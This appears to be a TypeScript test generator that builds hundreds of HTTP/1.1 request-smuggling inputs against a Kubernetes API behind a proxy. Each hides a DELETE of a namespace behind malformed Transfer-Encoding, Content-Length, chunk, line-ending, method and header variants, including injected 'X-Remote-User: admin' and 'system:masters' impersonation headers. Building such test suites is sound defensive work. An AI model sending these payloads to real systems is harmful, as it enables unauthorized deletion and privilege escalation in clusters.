/** A way to write one request so that two readers may see more than one, or another one. */
interface Trick {
  name: string;
  /** The bytes: `carrier` is an ordinary request without body framing, `hidden` a whole request of its own. */
  write(carrier: Carrier, hidden: string): string;
}

export interface Carrier {
  name: string;
  method: string;
  /** Path and query; a case's number is added to it. */
  target: string;
  host: string;
  token: string;
  body: string;
}

export interface SmugglingCase {
  name: string;
  bytes: string;
}

const head = ({ method, target, host, token }: Carrier, ...more: string[]) =>
  [`${method} ${target} HTTP/1.1`, `Host: ${host}`, `Authorization: Bearer ${token}`, ...more].join('\r\n');

const END = '\r\n\r\n';
const hex = (text: string) => text.length.toString(16);
const chunk = (text: string) => `${hex(text)}\r\n${text}\r\n`;
const LAST = `0${END}`;

/** Framed as chunks by one reader, by length by another; the hidden request stands where they part. */
const framed = (...headers: string[]): Trick['write'][] => [
  (carrier, hidden) => `${head(carrier, ...headers, `Content-Length: ${LAST.length}`)}${END}${LAST}${hidden}`,
  (carrier, hidden) =>
    `${head(carrier, `Content-Length: ${LAST.length + hidden.length}`, ...headers)}${END}${LAST}${hidden}`,
  (carrier, hidden) => `${head(carrier, ...headers)}${END}${chunk(carrier.body)}${LAST}${hidden}`,
];

const CODINGS = [
  ...[
    'Transfer-Encoding: chunked',
    'transfer-encoding:chunked',
    'TRANSFER-ENCODING: CHUNKED',
    'Transfer-Encoding : chunked',
    ' Transfer-Encoding: chunked',
  ],
  ...[
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding: chunked ',
    'Transfer-Encoding: \x0bchunked',
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding: chunked, identity',
  ],
  ...[
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: chunked, chunked',
    'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: chunked;q=1',
  ],
  ...[
    'Transfer-Encoding: identity',
    'Transfer-Encoding:',
    'Transfer-Encoding:\r\n chunked',
    'Transfer\x00-Encoding: chunked',
    'Transfer_Encoding: chunked',
    'X: y\nTransfer-Encoding: chunked',
    'X: y\rTransfer-Encoding: chunked',
  ],
];

const LENGTHS = [
  '+N',
  '-N',
  '0xN',
  'N, N',
  'N N',
  'N;',
  '0N',
  ' N ',
  'N\x0b',
  'N\x00',
  'N.0',
  'Ne0',
  '',
  '"N"',
  '9999999999999999999999',
  'N\r\n N',
  'N\nX: y',
];

const CHUNKS = [
  ...[
    'N;a=b',
    'N ;a',
    'N;\n',
    'N;a="\r\n"',
    '0xN',
    '+N',
    '-N',
    ' N',
    'N ',
    '\tN',
    '00000000N',
    '10000000000000000N',
    'N\x00',
    'N,',
    'n/a',
    'N\x0b',
    '',
  ],
];

const TRICKS: Trick[] = [
  ...CODINGS.flatMap((coding) => framed(coding).map((write, at) => ({ name: `${coding} (${at})`, write }))),
  ...CODINGS.slice(0, 12).map((coding) => ({
    name: `two codings, the second ${coding}`,
    write: (carrier: Carrier, hidden: string) =>
      `${head(carrier, 'Transfer-Encoding: chunked', coding)}${END}${chunk(carrier.body)}${LAST}${hidden}`,
  })),
  ...LENGTHS.map((length) => ({
    name: `Content-Length ${length}`,
    write: ({ body, ...carrier }: Carrier, hidden: string) =>
      `${head({ ...carrier, body }, `Content-Length: ${length.replaceAll('N', String(body.length))}`)}${END}${body}${hidden}`,
  })),
  ...[0, 1].map((order) => ({
    name: `two lengths (${order})`,
    write: (carrier: Carrier, hidden: string) => {
      const [one, two] = [carrier.body.length, carrier.body.length + hidden.length];
      const lengths = order === 0 ? [one, two] : [two, one];
      return `${head(carrier, ...lengths.map((length) => `Content-Length: ${length}`))}${END}${carrier.body}${hidden}`;
    },
  })),
  ...CHUNKS.map((size) => ({
    name: `chunk size ${JSON.stringify(size)}`,
    write: (carrier: Carrier, hidden: string) =>
      `${head(carrier, 'Transfer-Encoding: chunked')}${END}${size.replaceAll('N', hex(carrier.body))}\r\n${carrier.body}\r\n${LAST}${hidden}`,
  })),
  ...[
    'Content-Length: 9',
    'Authorization: Bearer x',
    'Host: other',
    'Transfer-Encoding: chunked',
    'X: y',
    ' folded',
    'no colon',
  ].map((trailer) => ({
    name: `trailer ${trailer}`,
    write: (carrier: Carrier, hidden: string) =>
      `${head(carrier, 'Transfer-Encoding: chunked', 'Trailer: X')}${END}${chunk(carrier.body)}0\r\n${trailer}${END}${hidden}`,
  })),
  ...['\n', '\r', '\r\r\n', '\n\r', '\x00\r\n', '\x0b\r\n'].map((line) => ({
    name: `lines that end in ${JSON.stringify(line)}`,
    write: (carrier: Carrier, hidden: string) =>
      `${head(carrier, `Content-Length: ${carrier.body.length}`).replaceAll('\r\n', line)}${line}${line}${carrier.body}${hidden}`,
  })),
  ...['\r\n', '\n', ' ', '\t', '\x00', '\r\n\r\n', 'X\r\n'].map((before) => ({
    name: `${JSON.stringify(before)} before the request`,
    write: (carrier: Carrier, hidden: string) => `${before}${plain(carrier)}${hidden}`,
  })),
  ...[
    'HTTP/1.0',
    'HTTP/0.9',
    'HTTP/2.0',
    'HTTP/1.2',
    'HTTP/1.1 ',
    'http/1.1',
    'HTTP/1.1 x',
    'ICE/1.0',
    'HTTP/01.1',
    '',
  ].map((version) => ({
    name: `version ${version}`,
    write: (carrier: Carrier, hidden: string) => `${plain(carrier).replace('HTTP/1.1', version)}${hidden}`,
  })),
  ...[
    'http://HOST',
    'https://HOST',
    'https://other',
    '//other',
    'HOST',
    '*',
    '',
    ' ',
    '\t',
    '\\',
    'http:',
    '/%20HTTP/1.1%0d%0aX:%20y',
  ].map((form) => ({
    name: `target ${JSON.stringify(form)}`,
    write: (carrier: Carrier, hidden: string) =>
      `${plain({ ...carrier, target: form.replace('HOST', carrier.host) + (form === '*' ? '' : carrier.target) })}${hidden}`,
  })),
  ...[
    'delete',
    'Delete',
    'DELETE\t',
    ' DELETE',
    'DELETE\x00',
    'G\x00ET',
    'PURGE',
    'CONNECT',
    'TRACE',
    'PRI',
    'M-SEARCH',
    'GET,DELETE',
    'QUERY',
    'LINK',
  ].map((method) => ({
    name: `method ${JSON.stringify(method)}`,
    write: (carrier: Carrier, hidden: string) => `${plain({ ...carrier, method })}${hidden}`,
  })),
  ...[
    ...[
      'X-HTTP-Method-Override: DELETE',
      'X-HTTP-Method: DELETE',
      'X-Method-Override: DELETE',
      '_method: DELETE',
    ],
    ...[
      'X-Original-URL: /api/v1/namespaces/hidden',
      'X-Rewrite-URL: /api/v1/namespaces/hidden',
      'X-Forwarded-Uri: /x',
      'X-Forwarded-Host: other',
      'Forwarded: host=other',
    ],
    ...[
      'Connection: close',
      'Connection: authorization',
      'Connection: host',
      'Connection: content-length',
      'Connection: keep-alive, transfer-encoding',
      'Keep-Alive: timeout=1',
      'Proxy-Connection: keep-alive',
      'TE: trailers, chunked',
    ],
    ...[
      'Expect: 100-continue',
      'Expect: 200-ok',
      'Expect:',
      'Content-Encoding: gzip',
      'Content-Encoding: identity',
      'Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings',
    ],
    ...[
      'Upgrade: websocket\r\nConnection: Upgrade',
      'Upgrade: SPDY/3.1\r\nConnection: Upgrade',
      'Upgrade: x\r\nConnection: upgrade, close',
      'Upgrade: websocket',
      'Connection: Upgrade',
    ],
    ...[
      'Host: other',
      'Host: 127.0.0.1',
      'Authorization: Bearer x',
      'Authorization: Basic eDp5',
      'Impersonate-User: x\r\n folded',
      'Content-Type: a\r\n b',
      'X: a\x00b',
      'X\x00: b',
      'X : b',
      ': b',
      'X',
      'X: é\x80\xff',
      'Cookie: a=b',
      'X-Remote-User: admin',
      'x-remote-group: system:masters',
      'X-Remote-Extra-A: b',
      'Set-Cookie: a',
    ],
  ].map((header) => ({
    name: `header ${JSON.stringify(header)}`,
    write: (carrier: Carrier, hidden: string) => `${plain(carrier, header)}${hidden}`,
  })),
  { name: 'nothing odd', write: (carrier) => plain(carrier) },
  { name: 'two requests in one write', write: (carrier, hidden) => `${plain(carrier)}${hidden}` },
  { name: 'the second cut off', write: (carrier, hidden) => `${plain(carrier)}${hidden.slice(0, 30)}` },
  { name: 'a body without framing', write: (carrier, hidden) => `${head(carrier)}${END}${hidden}` },
  {
    name: 'a body that is cut off',
    write: (carrier) => `${head(carrier, 'Content-Length: 500')}${END}${carrier.body}`,
  },
  {
    name: 'chunks that are cut off',
    write: (carrier) => `${head(carrier, 'Transfer-Encoding: chunked')}${END}${chunk(carrier.body)}`,
  },
  {
    name: 'a head of 60 kB',
    write: (carrier, hidden) => `${plain(carrier, `X: ${'y'.repeat(60_000)}`)}${hidden}`,
  },
  {
    name: 'three thousand headers',
    write: (carrier, hidden) =>
      `${plain(carrier, Array.from({ length: 3000 }, (_, i) => `X${i}: y`).join('\r\n'))}${hidden}`,
  },
];

function plain(carrier: Carrier, ...more: string[]): string {
  const framing = carrier.body === '' ? [] : [`Content-Length: ${carrier.body.length}`];
  return `${head(carrier, ...more, ...framing)}${END}${carrier.body}`;
}

/** Every trick with every carrier: reads and creates that stream through, and writes that are judged. */
export function smugglingCases(host: string, token: string): SmugglingCase[] {
  const json = (value: unknown) => JSON.stringify(value);
  const carriers: Omit<Carrier, 'host' | 'token'>[] = [
    { name: 'read', method: 'GET', target: '/api/v1/namespaces/shop/pods?limit=5', body: '' },
    {
      name: 'read with a body',
      method: 'GET',
      target: '/api/v1/namespaces/shop/pods?limit=6',
      body: '{"a":"GET / HTTP/1.1"}',
    },
    {
      name: 'create',
      method: 'POST',
      target: '/api/v1/namespaces/shop/configmaps?a=b',
      body: json({ kind: 'ConfigMap' }),
    },
    {
      name: 'delete',
      method: 'DELETE',
      target: '/api/v1/namespaces/shop/pods/a?b=c',
      body: json({ kind: 'DeleteOptions' }),
    },
    {
      name: 'scale',
      method: 'PUT',
      target: '/apis/apps/v1/namespaces/shop/deployments/a/scale?b=c',
      body: json({ spec: { replicas: 0 } }),
    },
    { name: 'exec', method: 'POST', target: '/api/v1/namespaces/shop/pods/a/exec?command=ls', body: 'x' },
  ];
  let number = 0;
  return carriers.flatMap((carrier) =>
    TRICKS.map((trick) => {
      number++;
      const hidden = `DELETE /api/v1/namespaces/hidden-${number} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\nContent-Length: 0${END}`;
      const target = `${carrier.target}&case=${number}`;
      return {
        name: `${number} ${carrier.name}: ${trick.name}`,
        bytes: trick.write({ ...carrier, target, host, token }, hidden),
      };
    }),
  );
}
